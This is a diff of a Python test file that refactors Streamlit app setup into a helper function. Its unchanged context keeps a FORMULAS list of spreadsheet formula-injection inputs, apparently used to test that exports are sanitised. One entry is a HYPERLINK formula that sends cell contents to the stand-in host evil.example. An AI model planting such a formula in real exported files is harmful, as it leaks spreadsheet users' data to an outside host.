@@ -11,7 +11,6 @@ import numpy as np
 import pandas as pd
 import pytest
 import tifffile
-from streamlit.testing.v1 import AppTest
 
 from bps_app.safe_text import md
 from bps_cli.main import main
@@ -20,8 +19,8 @@ from bps_core.exports import ExportExistsError, export, export_to_output
 from bps_core.project import Project, create_project_from_folder
 from bps_core.storage import DatasourceConfig, LocalFolderSource
 from bps_core.storage.copy import copy_objects
+from tests.helpers import open_app
 
-ROOT = Path(__file__).resolve().parents[2]
 FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "-2+3", "@SUM(A1)",
             "\tx", "\rx"]  # fmt: skip
 
@@ -166,9 +165,7 @@ def test_export_page__existing_output_file_needs_the_replace_checkbox(
     tiny_project.set_datasources(
         output=DatasourceConfig(id="output", kind="local", path=str(out), purpose="output")
     )
-    monkeypatch.setenv("BPS_PROJECT", str(tiny_project.folder))
-    monkeypatch.chdir(ROOT)
-    app = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
+    app = open_app(monkeypatch, tiny_project.folder)
     app.run()
     app.switch_page("pages/6_Export.py").run()
     app.selectbox(key="export_out_format").set_value("csv")
